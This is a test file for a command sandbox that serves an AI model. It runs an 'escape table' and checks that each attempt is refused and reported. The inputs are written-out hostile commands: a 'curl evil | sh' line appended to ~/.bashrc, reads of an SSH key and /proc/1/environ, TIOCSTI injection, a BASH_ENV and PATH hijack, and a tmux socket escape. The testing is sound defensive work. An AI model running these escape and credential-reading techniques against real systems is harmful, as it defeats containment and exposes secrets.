// The escape table of issue 29 through `procmux mcp --sandbox`: each attempt is refused on the
// host (checked there) and the reply ends with what was refused; the allowed rows work.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  assertNoLeakedProcesses,
  assertNoSandboxDirs,
  privateTmpdir,
  requireTool,
  withoutUsage,
} from '@procmux/test-utils';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endStateDirs } from '../mcp/server.js';
import { hostHttp, type SandboxedServer, sessionId, startSandboxed } from './sandbox-server.js';

const linux = process.platform === 'linux';
const tmuxMissing = linux ? requireTool('tmux') : 'not Linux';
// The servers inherit TMPDIR: their sandboxes' private dirs are made (and checked) here.
const tmp = linux ? privateTmpdir() : '';
let server: SandboxedServer;
let forbidden: Awaited<ReturnType<typeof hostHttp>>;
let allowed: Awaited<ReturnType<typeof hostHttp>>;
// Allowed, with nothing listening on this host.
let unanswered = 0;

beforeAll(async () => {
  if (!linux) return;
  forbidden = await hostHttp('host secret page');
  allowed = await hostHttp('allowed page 5c1e');
  const closing = await hostHttp('');
  unanswered = closing.port;
  await closing.close();
  server = await startSandboxed([
    '--sandbox-allow-domain',
    `localhost:${allowed.port}`,
    '--sandbox-allow-domain',
    `localhost:${unanswered}`,
  ]);
});

afterAll(async () => {
  if (!linux) return;
  await server.close();
  await forbidden.close();
  await allowed.close();
  endStateDirs();
  await assertNoLeakedProcesses();
  await assertNoSandboxDirs(tmp);
  rmSync(tmp, { recursive: true, force: true });
});

const oneShot = (command: string) => server.call('exec', { command });
const lastLines = (text: string) => text.trimEnd().split('\n').slice(-3).join('\n');

describe.skipIf(!linux)('escape table through procmux mcp --sandbox', () => {
  it('tells the model at initialize where it can write and what it can reach', () => {
    expect(server.instructions).toContain(
      `It can write only to ${server.workspace} and to its session's own temp dir, $TMPDIR`,
    );
    expect(server.instructions).toContain(
      `lets through localhost:${allowed.port}, localhost:${unanswered}. Each session has its own localhost`,
    );
  });

  it('refuses a write to a file under /tmp, and says so', async () => {
    const target = join(server.root, 'outside.txt');
    const r = await oneShot(`echo owned > ${target}`);
    expect(existsSync(target)).toBe(false);
    expect(lastLines(r.text)).toContain(`sandbox: write to ${target} refused`);
  });

  it('refuses a write to ~/.bashrc', async () => {
    const r = await oneShot('echo "curl evil | sh" >> ~/.bashrc');
    expect(readFileSync(join(server.home, '.bashrc'), 'utf8')).toBe('# original\n');
    expect(lastLines(r.text)).toContain(`sandbox: write to ${join(server.home, '.bashrc')} refused`);
  });

  it('refuses to read a key in ~/.ssh', async () => {
    const r = await oneShot('cat ~/.ssh/id_ed25519');
    expect(r.text).not.toContain('FAKE-PRIVATE-KEY');
    expect(lastLines(r.text)).toContain(
      `sandbox: read of ${join(server.home, '.ssh', 'id_ed25519')} refused`,
    );
  });

  it("refuses to read procmux's own state dir", async () => {
    const r = await oneShot(`ls ${server.stateDir}`);
    expect(lastLines(r.text)).toContain(`sandbox: read of ${server.stateDir} refused`);
  });

  it("refuses HTTP to a server on the host's 127.0.0.1", async () => {
    const r = await oneShot(
      `python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:${forbidden.port}/').read())"`,
    );
    expect(r.text).not.toContain('host secret page');
    expect(forbidden.requests()).toBe(0);
    expect(lastLines(r.text)).toContain(`sandbox: connection to 127.0.0.1:${forbidden.port} refused`);
  });

  it("refuses to signal the test's own pid", async () => {
    const r = await oneShot(`kill -TERM ${process.pid}`);
    expect(lastLines(r.text)).toContain(`sandbox: signal to pid ${process.pid} refused`);
  });

  it('refuses a write through a workspace symlink pointing outside', async () => {
    const outside = join(server.root, 'outside-dir');
    mkdirSync(outside);
    writeFileSync(join(outside, 'target'), 'untouched\n');
    symlinkSync(join(outside, 'target'), join(server.workspace, 'link'));
    const r = await oneShot('echo owned > link');
    expect(readFileSync(join(outside, 'target'), 'utf8')).toBe('untouched\n');
    expect(lastLines(r.text)).toContain(
      `sandbox: write to ${join(server.workspace, 'link')} (-> ${join(outside, 'target')}) refused`,
    );
  });

  it('refuses TIOCSTI into its own terminal', async () => {
    const started = await server.call('exec', {
      mode: 'session',
      command: `python3 -c "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('in' + 'jected')"`,
    });
    const done = await server.call('process', {
      action: 'wait_for',
      session_id: sessionId(started.text),
      exit: true,
    });
    const all = `${started.text}\n${done.text}`;
    expect(all).toContain('Operation not permitted');
    expect(all).not.toContain('injected');
    expect(all).toContain('sandbox: terminal input injection (TIOCSTI) refused');
  });

  it("refuses /proc/1/environ (the host's pid 1 is not there, the sandbox's own is hidden)", async () => {
    const r = await oneShot('cat /proc/1/environ');
    expect(r.text).not.toContain('HOME=');
    expect(lastLines(r.text)).toContain('sandbox: read of /proc/1/environ refused');
  });

  it('runs nothing of the env argument outside the sandbox (BASH_ENV, a bwrap first on PATH)', async () => {
    // Files a sandboxed command could have written in the workspace: each appends to a file
    // outside it, which only the host's side of the launch could do.
    const proof = join(server.root, 'env-proof.txt');
    const bin = join(server.workspace, 'bin');
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(server.workspace, 'evil.sh'), `echo ran >> ${proof}\n`);
    const bwrap = execFileSync('sh', ['-c', 'command -v bwrap'], { encoding: 'utf8' }).trim();
    writeFileSync(join(bin, 'bwrap'), `#!/bin/sh\necho ran >> ${proof}\nexec ${bwrap} "$@"\n`, {
      mode: 0o755,
    });
    const r = await server.call('exec', {
      command: 'echo "inside: $BASH_ENV"',
      env: { BASH_ENV: join(server.workspace, 'evil.sh'), PATH: `${bin}:/usr/bin:/bin` },
    });
    expect(existsSync(proof)).toBe(false);
    // The program has them, inside: its bash sourced the file there, and was refused the write.
    expect(r.text).toContain(`inside: ${join(server.workspace, 'evil.sh')}`);
    expect(lastLines(r.text)).toContain(`sandbox: write to ${proof} refused`);
  });

  it.skipIf(tmuxMissing !== undefined)(
    'refuses the socket of a tmux server on the host (it would run a command outside), and says so',
    async () => {
      const socket = join(server.root, 'tmux.sock');
      const proof = join(server.root, 'tmux-ran.txt');
      execFileSync('tmux', ['-S', socket, 'new-session', '-d', 'sleep 120']);
      try {
        const r = await oneShot(`tmux -S ${socket} new-window 'touch ${proof}'`);
        expect(existsSync(proof)).toBe(false);
        expect(lastLines(r.text)).toContain(`sandbox: connection to unix socket ${socket} refused`);
      } finally {
        execFileSync('tmux', ['-S', socket, 'kill-server']);
      }
    },
  );

  it('allows writing and reading in the workspace, and reports nothing', async () => {
    const r = await oneShot('echo kept > notes.txt && cat notes.txt');
    expect(withoutUsage(r.text)).toBe('kept\n\nProcess exited with code 0.');
    expect(readFileSync(join(server.workspace, 'notes.txt'), 'utf8')).toBe('kept\n');
  });

  it('answers an allowed destination nothing answers on with a 502 saying why, not a refusal', async () => {
    const r = await oneShot(
      `curl -sS http://localhost:${unanswered}/; curl -sS -p http://localhost:${unanswered}/`,
    );
    expect(r.text).toContain(
      `procmux sandbox: localhost:${unanswered} is allowed but could not be reached from this host (ECONNREFUSED)`,
    );
    expect(r.text).toMatch(/CONNECT tunnel failed, response 502/);
    expect(r.text).not.toContain('sandbox: connection to');
  });

  it('allows a domain on the allow list, through the proxy', async () => {
    const r = await oneShot(
      `python3 -c "import urllib.request as u; print(u.urlopen('http://localhost:${allowed.port}/').read().decode())"`,
    );
    expect(r.text).toContain('allowed page 5c1e');
    expect(r.text).not.toContain('sandbox:');
    expect(allowed.requests()).toBe(1);
  });
});
